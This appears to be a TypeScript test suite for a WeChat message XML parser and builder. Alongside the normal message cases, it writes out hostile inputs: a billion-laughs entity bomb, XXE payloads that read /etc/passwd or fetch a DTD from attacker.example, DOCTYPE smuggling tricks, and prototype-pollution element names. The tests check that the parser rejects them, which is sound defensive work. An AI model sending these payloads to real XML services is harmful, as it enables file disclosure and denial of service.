import { test } from "node:test";
import assert from "node:assert/strict";
import { randomInt } from "node:crypto";
import { buildXml, MAX_XML_DEPTH, parseWeChatXml, type WeChatXml } from "../../lib/wechat/xml";
import { isAppError } from "../../lib/app-error";
import type { ProtocolErrorReason } from "../../lib/wechat/errors";

// parseWeChatXml returns null-prototype objects; compare shapes as plain JSON.
const plain = (x: unknown): unknown => JSON.parse(JSON.stringify(x));

function assertParsesTo(body: string, expected: Record<string, unknown>): WeChatXml {
  const parsed = parseWeChatXml(body);
  assert.deepEqual(plain(parsed), expected);
  return parsed;
}

function assertRefused(body: string, reason: ProtocolErrorReason): void {
  assert.throws(
    () => parseWeChatXml(body),
    (err: unknown) => isAppError(err, "WECHAT_PROTOCOL") && err.reason === reason,
    `expected ${reason} for ${JSON.stringify(body.slice(0, 80))}`,
  );
}

const HEAD = (type: string) =>
  `<ToUserName><![CDATA[gh_97417a04a28d]]></ToUserName><FromUserName><![CDATA[o9AgO5Kd5ggOC-bXrbNODIiE3bGY]]></FromUserName><CreateTime>1348831860</CreateTime><MsgType><![CDATA[${type}]]></MsgType>`;
const HEAD_FIELDS = (type: string) => ({
  ToUserName: "gh_97417a04a28d",
  FromUserName: "o9AgO5Kd5ggOC-bXrbNODIiE3bGY",
  CreateTime: "1348831860",
  MsgType: type,
});

test("text message (indented like WeChat's samples)", () => {
  assertParsesTo(
    `<xml>
  <ToUserName><![CDATA[toUser]]></ToUserName>
  <FromUserName><![CDATA[fromUser]]></FromUserName>
  <CreateTime>1348831860</CreateTime>
  <MsgType><![CDATA[text]]></MsgType>
  <Content><![CDATA[this is a test]]></Content>
  <MsgId>1234567890123456</MsgId>
  <MsgDataId>xxxx</MsgDataId>
  <Idx>xxxx</Idx>
</xml>`,
    {
      ToUserName: "toUser",
      FromUserName: "fromUser",
      CreateTime: "1348831860",
      MsgType: "text",
      Content: "this is a test",
      MsgId: "1234567890123456",
      MsgDataId: "xxxx",
      Idx: "xxxx",
    },
  );
});

test("MsgId above 2^53 stays an exact string", () => {
  const msg = parseWeChatXml(`<xml>${HEAD("text")}<Content><![CDATA[hi]]></Content><MsgId>6054768590064713728</MsgId></xml>`);
  assert.equal(msg.MsgId, "6054768590064713728");
  assert.notEqual(String(Number("6054768590064713728")), "6054768590064713728");
  assert.equal(msg.CreateTime, "1348831860");
  // Leading zeros, signs, hex-looking and float-looking text also stay verbatim.
  assert.deepEqual(plain(parseWeChatXml("<xml><A>007</A><B>0x1F</B><C>1e3</C><D>-0</D><E>true</E><F>23.134521</F></xml>")), {
    A: "007",
    B: "0x1F",
    C: "1e3",
    D: "-0",
    E: "true",
    F: "23.134521",
  });
});

test("image message", () => {
  assertParsesTo(
    `<xml>${HEAD("image")}<PicUrl><![CDATA[http://mmbiz.qpic.cn/mmbiz_jpg/abc/0]]></PicUrl><MediaId><![CDATA[media_id]]></MediaId><MsgId>1234567890123456</MsgId></xml>`,
    { ...HEAD_FIELDS("image"), PicUrl: "http://mmbiz.qpic.cn/mmbiz_jpg/abc/0", MediaId: "media_id", MsgId: "1234567890123456" },
  );
});

test("voice message with Recognition", () => {
  assertParsesTo(
    `<xml>${HEAD("voice")}<MediaId><![CDATA[media_id]]></MediaId><Format><![CDATA[amr]]></Format><Recognition><![CDATA[腾讯微信团队]]></Recognition><MsgId>1234567890123456</MsgId></xml>`,
    { ...HEAD_FIELDS("voice"), MediaId: "media_id", Format: "amr", Recognition: "腾讯微信团队", MsgId: "1234567890123456" },
  );
});

test("video and shortvideo messages", () => {
  for (const type of ["video", "shortvideo"]) {
    assertParsesTo(
      `<xml>${HEAD(type)}<MediaId><![CDATA[media_id]]></MediaId><ThumbMediaId><![CDATA[thumb_media_id]]></ThumbMediaId><MsgId>1234567890123456</MsgId></xml>`,
      { ...HEAD_FIELDS(type), MediaId: "media_id", ThumbMediaId: "thumb_media_id", MsgId: "1234567890123456" },
    );
  }
});

test("location message", () => {
  assertParsesTo(
    `<xml>${HEAD("location")}<Location_X>23.134521</Location_X><Location_Y>113.358803</Location_Y><Scale>20</Scale><Label><![CDATA[位置信息]]></Label><MsgId>1234567890123456</MsgId></xml>`,
    { ...HEAD_FIELDS("location"), Location_X: "23.134521", Location_Y: "113.358803", Scale: "20", Label: "位置信息", MsgId: "1234567890123456" },
  );
});

test("link message", () => {
  assertParsesTo(
    `<xml>${HEAD("link")}<Title><![CDATA[公众平台官网链接]]></Title><Description><![CDATA[公众平台官网链接]]></Description><Url><![CDATA[url]]></Url><MsgId>1234567890123456</MsgId></xml>`,
    { ...HEAD_FIELDS("link"), Title: "公众平台官网链接", Description: "公众平台官网链接", Url: "url", MsgId: "1234567890123456" },
  );
});

test("subscribe event from a parametric QR code (qrscene_)", () => {
  assertParsesTo(
    `<xml>${HEAD("event")}<Event><![CDATA[subscribe]]></Event><EventKey><![CDATA[qrscene_123123]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket></xml>`,
    { ...HEAD_FIELDS("event"), Event: "subscribe", EventKey: "qrscene_123123", Ticket: "TICKET" },
  );
});

test("plain subscribe / unsubscribe with empty EventKey", () => {
  assertParsesTo(`<xml>${HEAD("event")}<Event><![CDATA[subscribe]]></Event><EventKey><![CDATA[]]></EventKey></xml>`, {
    ...HEAD_FIELDS("event"),
    Event: "subscribe",
    EventKey: "",
  });
  assertParsesTo(`<xml>${HEAD("event")}<Event><![CDATA[unsubscribe]]></Event><EventKey></EventKey></xml>`, {
    ...HEAD_FIELDS("event"),
    Event: "unsubscribe",
    EventKey: "",
  });
});

test("SCAN event", () => {
  assertParsesTo(`<xml>${HEAD("event")}<Event><![CDATA[SCAN]]></Event><EventKey><![CDATA[SCENE_VALUE]]></EventKey><Ticket><![CDATA[TICKET]]></Ticket></xml>`, {
    ...HEAD_FIELDS("event"),
    Event: "SCAN",
    EventKey: "SCENE_VALUE",
    Ticket: "TICKET",
  });
});

test("LOCATION event", () => {
  assertParsesTo(
    `<xml>${HEAD("event")}<Event><![CDATA[LOCATION]]></Event><Latitude>23.137466</Latitude><Longitude>113.352425</Longitude><Precision>119.385040</Precision></xml>`,
    { ...HEAD_FIELDS("event"), Event: "LOCATION", Latitude: "23.137466", Longitude: "113.352425", Precision: "119.385040" },
  );
});

test("CLICK and VIEW events", () => {
  assertParsesTo(`<xml>${HEAD("event")}<Event><![CDATA[CLICK]]></Event><EventKey><![CDATA[EVENTKEY]]></EventKey></xml>`, {
    ...HEAD_FIELDS("event"),
    Event: "CLICK",
    EventKey: "EVENTKEY",
  });
  assertParsesTo(
    `<xml>${HEAD("event")}<Event><![CDATA[VIEW]]></Event><EventKey><![CDATA[https://www.qq.com/?a=1&b=2]]></EventKey><MenuId>MENUID</MenuId></xml>`,
    { ...HEAD_FIELDS("event"), Event: "VIEW", EventKey: "https://www.qq.com/?a=1&b=2", MenuId: "MENUID" },
  );
});

test("TEMPLATESENDJOBFINISH keeps <MsgID> (capital D) distinct from MsgId", () => {
  const msg = assertParsesTo(
    `<xml>${HEAD("event")}<Event><![CDATA[TEMPLATESENDJOBFINISH]]></Event><MsgID>200163836</MsgID><Status><![CDATA[success]]></Status></xml>`,
    { ...HEAD_FIELDS("event"), Event: "TEMPLATESENDJOBFINISH", MsgID: "200163836", Status: "success" },
  );
  assert.equal(msg.MsgId, undefined);
});

test("scancode_push with nested ScanCodeInfo", () => {
  assertParsesTo(
    `<xml>${HEAD("event")}<Event><![CDATA[scancode_push]]></Event><EventKey><![CDATA[6]]></EventKey><ScanCodeInfo><ScanType><![CDATA[qrcode]]></ScanType><ScanResult><![CDATA[1]]></ScanResult></ScanCodeInfo></xml>`,
    { ...HEAD_FIELDS("event"), Event: "scancode_push", EventKey: "6", ScanCodeInfo: { ScanType: "qrcode", ScanResult: "1" } },
  );
});

test("pic_sysphoto: repeated PicList/item become an array; a single one stays an object", () => {
  const item = (md5: string) => `<item><PicMd5Sum><![CDATA[${md5}]]></PicMd5Sum></item>`;
  assertParsesTo(
    `<xml>${HEAD("event")}<Event><![CDATA[pic_sysphoto]]></Event><EventKey><![CDATA[6]]></EventKey><SendPicsInfo><Count>2</Count><PicList>${item("1b5f7c23b5bf75682a53e7b6d163e185")}${item("2c5f7c23b5bf75682a53e7b6d163e185")}</PicList></SendPicsInfo></xml>`,
    {
      ...HEAD_FIELDS("event"),
      Event: "pic_sysphoto",
      EventKey: "6",
      SendPicsInfo: {
        Count: "2",
        PicList: { item: [{ PicMd5Sum: "1b5f7c23b5bf75682a53e7b6d163e185" }, { PicMd5Sum: "2c5f7c23b5bf75682a53e7b6d163e185" }] },
      },
    },
  );
  const single = parseWeChatXml(`<xml><SendPicsInfo><Count>1</Count><PicList>${item("abc")}</PicList></SendPicsInfo></xml>`);
  assert.deepEqual(plain(single), { SendPicsInfo: { Count: "1", PicList: { item: { PicMd5Sum: "abc" } } } });
});

test("unknown message types and extra elements are kept", () => {
  assertParsesTo(`<xml>${HEAD("brand_new_type")}<URL><![CDATA[http://old.example]]></URL><Whatever><Deep><Er>x</Er></Deep></Whatever></xml>`, {
    ...HEAD_FIELDS("brand_new_type"),
    URL: "http://old.example",
    Whatever: { Deep: { Er: "x" } },
  });
});

test("safe-mode and compatible-mode envelopes", () => {
  const encrypt =
    "+qdx1OKCy+5JPCBFWw70tm0fJGb2Jmeia4FCB7kao+/Q5c/ohsOzQHi8khUOb05JCpj0JB4RvQMkUyus8TPxLKJGQqcvZqzDpVzazhZv6JsXUnnR8XGT740XgXZUXQ7vJVnAG+tE8NUd4yFyjPy7GgiaviNrlCTj+l5kdfMuFUPpRSrfMZuMcp3Fn2Pede2IuQrKEYwKSqFIZoNqJ4M8EajAsjLY2km32IIjdf8YL/P50F7mStwntrA2cPDrM1kb6mOcfBgRtWygb3VIYnSeOBrebufAlr7F9mFUPAJGj04=";
  assertParsesTo(`<xml>\n    <ToUserName><![CDATA[gh_97417a04a28d]]></ToUserName>\n    <Encrypt><![CDATA[${encrypt}]]></Encrypt>\n</xml>`, {
    ToUserName: "gh_97417a04a28d",
    Encrypt: encrypt,
  });
  assertParsesTo(`<xml>${HEAD("text")}<Content><![CDATA[hi]]></Content><MsgId>1</MsgId><Encrypt><![CDATA[${encrypt}]]></Encrypt></xml>`, {
    ...HEAD_FIELDS("text"),
    Content: "hi",
    MsgId: "1",
    Encrypt: encrypt,
  });
});

test("CDATA content is byte-exact: XML-looking text, whitespace, newlines, CRLF, emoji, control chars", () => {
  const contents = [
    "  leading and trailing  ",
    '<a href="https://example.com">link</a> & &lt; &amp; &#x41;',
    "line1\nline2\n\n\tindented\n",
    "windows\r\nline\rends\r\n",
    "😀👨‍👩‍👧 中文 ",
    "\u0001\u0008\u001b control",
    "   ",
    "\n",
    "<xml><Content>nested</Content></xml>",
    "<!DOCTYPE html><html></html>",
    "<!ENTITY x 'y'> &x;",
  ];
  for (const content of contents) {
    const msg = parseWeChatXml(`<xml>${HEAD("text")}<Content><![CDATA[${content}]]></Content><MsgId>1</MsgId></xml>`);
    assert.equal(msg.Content, content, JSON.stringify(content));
  }
});

test("CR preservation copes with private-use characters already in the text", () => {
  const content = "\uE000\uE001 pua \r\n \uE000\r";
  const msg = parseWeChatXml(`<xml><A><![CDATA[${content}]]></A><B><![CDATA[\uE002]]></B><C>x\uE000</C></xml>`);
  assert.equal(msg.A, content);
  assert.equal(msg.B, "\uE002");
  assert.equal(msg.C, "x\uE000");
});

test("hostile bodies are rejected without pathological slowness", () => {
  // Each of these would be quadratic with a naive regex or rescanning loop.
  assertRefused("<xml><A>" + "<![CDATA[\r".repeat(50_000), "bad_xml");
  assertRefused("<xml><A><![CDATA[<!doctype]]></A>" + "<B>".repeat(50_000), "bad_xml");
  assertRefused("<!doctype" + "<".repeat(100_000), "doctype");
  assertRefused("<xml>" + "<A>".repeat(100_000) + "</xml>", "bad_xml");
});

test("whitespace around a CDATA section is dropped, CRLF outside CDATA is normalised", () => {
  assertParsesTo("<xml><Content>\r\n  <![CDATA[ x ]]>\r\n</Content></xml>", { Content: " x " });
  assertParsesTo("<xml><A>a\r\nb</A><B><![CDATA[a\r\nb]]></B></xml>", { A: "a\nb", B: "a\r\nb" });
});

test("entities in non-CDATA text are kept exactly as written (never expanded)", () => {
  assertParsesTo("<xml><A>a &lt; b &amp;amp; &#60; &#x3C; &nbsp; &unknown;</A></xml>", {
    A: "a &lt; b &amp;amp; &#60; &#x3C; &nbsp; &unknown;",
  });
});

test("empty elements are empty strings", () => {
  assertParsesTo("<xml><A></A><B/><C><![CDATA[]]></C><D>   </D><E />\n</xml>", { A: "", B: "", C: "", D: "", E: "" });
  assertParsesTo("<xml></xml>", {});
  assertParsesTo("<xml/>", {});
});

test("XML declaration, BOM and surrounding whitespace are accepted", () => {
  assertParsesTo('<?xml version="1.0" encoding="UTF-8"?>\n<xml><A>1</A></xml>\n', { A: "1" });
  assertParsesTo("\uFEFF<xml><A>1</A></xml>", { A: "1" });
});

test("billion laughs DOCTYPE is refused before parsing", () => {
  const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol9;</Content></xml>`;
  assertRefused(lol, "doctype");
});

test("SYSTEM external entity (XXE) is refused", () => {
  assertRefused('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>', "doctype");
  assertRefused('<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>', "doctype");
});

test("declarations are refused in any case and position", () => {
  assertRefused("<!doctype xml><xml/>", "doctype");
  assertRefused("<!DocType xml><xml/>", "doctype");
  assertRefused('<xml><!ENTITY x "y"><A>1</A></xml>', "doctype");
  assertRefused("<xml><A>1</A></xml><!DOCTYPE x>", "doctype");
  assertRefused("<xml><A><![CDATA[x]]></A><!DOCTYPE x [<!ENTITY a 'b'>]></xml>", "doctype");
});

test("declaration-looking text cannot be smuggled past the check via comments, PIs or attributes", () => {
  // Each hides "<![CDATA[" where the parser would not see a CDATA section,
  // so a naive "skip CDATA" scan would miss the real DOCTYPE that follows.
  assertRefused("<xml><!-- <![CDATA[ --><!DOCTYPE x [<!ENTITY a 'b'>]><A>&a;</A><!-- ]]> --></xml>", "doctype");
  assertRefused("<xml><?pi <![CDATA[ ?><!DOCTYPE x><A>1</A><?pi ]]> ?></xml>", "doctype");
  assertRefused('<xml><A b="<![CDATA[">x</A><!DOCTYPE x><B>]]></B></xml>', "doctype");
  assertRefused("<xml><A b='>'>x</A><![CDATA[<!DOCTYPE x>]]></xml>", "doctype");
  assertRefused("<xml><A><![CDATA[<!DOCTYPE x>", "doctype");
});

test("malformed bodies → bad_xml", () => {
  const bad = [
    "",
    "   ",
    "hello world",
    "success",
    '{"ToUserName":"gh"}',
    "<xml><ToUserName><![CDATA[gh]]></ToUserName>",
    "<xml><ToUserName><![CDATA[gh]]></ToUserName><Content><![CDATA[trunc",
    "<xml><A>1</B></xml>",
    "<xml><A>1</A></xml>trailing",
    "<root><A>1</A></root>",
    "<Xml><A>1</A></Xml>",
    "<xml/><xml/>",
    "<xml><A>1</A></xml><xml><A>2</A></xml>",
    "<a/><xml/>",
    "<xml>just text</xml>",
    "<xml><![CDATA[x]]></xml>",
    "<xml><A><![CDATA[unclosed</A></xml>",
    "< xml></xml>",
  ];
  for (const body of bad) assertRefused(body, "bad_xml");
});

test(`nesting is bounded at ${MAX_XML_DEPTH} levels including <xml>`, () => {
  const nest = (levels: number) => {
    const names = Array.from({ length: levels - 1 }, (_, i) => `L${i + 2}`);
    return `<xml>${names.map((n) => `<${n}>`).join("")}x${[...names]
      .reverse()
      .map((n) => `</${n}>`)
      .join("")}</xml>`;
  };
  assert.doesNotThrow(() => parseWeChatXml(nest(MAX_XML_DEPTH)));
  assertRefused(nest(MAX_XML_DEPTH + 1), "bad_xml");
  assertRefused(nest(5000), "bad_xml");
});

test("<__proto__>, <constructor>, <prototype> cannot pollute prototypes", () => {
  assertRefused("<xml><__proto__><polluted>yes</polluted></__proto__></xml>", "bad_xml");
  assertRefused("<xml><constructor><prototype><polluted>yes</polluted></prototype></constructor></xml>", "bad_xml");
  assertRefused("<xml><A><prototype>x</prototype></A></xml>", "bad_xml");
  assert.equal((Object.prototype as Record<string, unknown>).polluted, undefined);
  assert.equal(({} as Record<string, unknown>).polluted, undefined);
});

test("parsed objects have no prototype, and names like toString are kept verbatim", () => {
  const msg = parseWeChatXml("<xml><A><B>1</B></A><toString>x</toString><hasOwnProperty>y</hasOwnProperty><valueOf>z</valueOf></xml>");
  assert.equal(Object.getPrototypeOf(msg), null);
  assert.equal(Object.getPrototypeOf(msg.A), null);
  assert.equal(msg.constructor, undefined);
  assert.equal(msg.toString, "x");
  assert.equal(msg.hasOwnProperty, "y");
  assert.equal(msg.valueOf, "z");
  assert.equal(parseWeChatXml("<xml><A>1</A></xml>").toString, undefined);
});

test("parsing a typical text message repeatedly is stable (no per-call state)", () => {
  const body = `<xml>${HEAD("text")}<Content><![CDATA[你好 hello]]></Content><MsgId>6054768590064713728</MsgId></xml>`;
  for (let i = 0; i < 5000; i++) {
    const msg = parseWeChatXml(body);
    if (msg.Content !== "你好 hello" || msg.MsgId !== "6054768590064713728") assert.fail(`iteration ${i}`);
  }
});

test("buildXml: strings in CDATA, numbers bare, nested objects and repeated arrays", () => {
  const xml = buildXml({
    ToUserName: "o9AgO5Kd5ggOC-bXrbNODIiE3bGY",
    CreateTime: 1714112445,
    ArticleCount: 2,
    Skipped: undefined,
    Articles: { item: [{ Title: "a" }, { Title: "b" }] },
    Empty: "",
    None: [],
  });
  assert.equal(
    xml,
    "<xml><ToUserName><![CDATA[o9AgO5Kd5ggOC-bXrbNODIiE3bGY]]></ToUserName><CreateTime>1714112445</CreateTime><ArticleCount>2</ArticleCount>" +
      "<Articles><item><Title><![CDATA[a]]></Title></item><item><Title><![CDATA[b]]></Title></item></Articles><Empty><![CDATA[]]></Empty></xml>",
  );
  assert.deepEqual(plain(parseWeChatXml(xml)), {
    ToUserName: "o9AgO5Kd5ggOC-bXrbNODIiE3bGY",
    CreateTime: "1714112445",
    ArticleCount: "2",
    Articles: { item: [{ Title: "a" }, { Title: "b" }] },
    Empty: "",
  });
});

test("buildXml splits ]]> across CDATA sections and round-trips exactly", () => {
  const cases = ["]]>", "]]>start", "end]]>", "a]]>b]]>c", "]]>]]>]]>", "]]]>", "]]]]>>", "]>]]]>>", "]]", "> ]] > ]]>", "<![CDATA[x]]>", "]]>\r\n]]>"];
  for (const content of cases) {
    const xml = buildXml({ Content: content });
    assert.doesNotThrow(() => parseWeChatXml(xml), xml);
    assert.equal(parseWeChatXml(xml).Content, content, JSON.stringify(content));
  }
  assert.equal(buildXml({ Content: "a]]>b" }), "<xml><Content><![CDATA[a]]]]><![CDATA[>b]]></Content></xml>");
});

test("buildXml round-trips random text made of awkward characters", () => {
  const alphabet = ["]", "]]", ">", "<", "&", "[", "!", "CDATA", " ", "\n", "\r", "\t", "中", "😀", "a", "\u0001", "&lt;", "<!DOCTYPE x>"];
  for (let i = 0; i < 500; i++) {
    let s = "";
    for (let n = randomInt(0, 40); n > 0; n--) s += alphabet[randomInt(alphabet.length)];
    assert.equal(parseWeChatXml(buildXml({ Content: s, Nested: { Deeper: s } })).Content, s, JSON.stringify(s));
  }
});

test("buildXml rejects what has no valid XML form", () => {
  assert.throws(() => buildXml({ "bad name": "x" }), TypeError);
  assert.throws(() => buildXml({ "a><b": "x" }), TypeError);
  assert.throws(() => buildXml({ "1abc": "x" }), TypeError);
  assert.throws(() => buildXml({ A: Number.NaN }), TypeError);
  assert.throws(() => buildXml({ A: Number.POSITIVE_INFINITY }), TypeError);
  assert.throws(() => buildXml({ A: [["nested"]] }), TypeError);
  assert.throws(() => buildXml({ A: true as unknown as string }), TypeError);
  type Tree = { [k: string]: Tree | string };
  const deep: Tree = {};
  let cursor = deep;
  for (let i = 0; i < MAX_XML_DEPTH; i++) cursor = cursor[`L${i}`] = {} as Tree;
  assert.throws(() => buildXml(deep), RangeError);
});
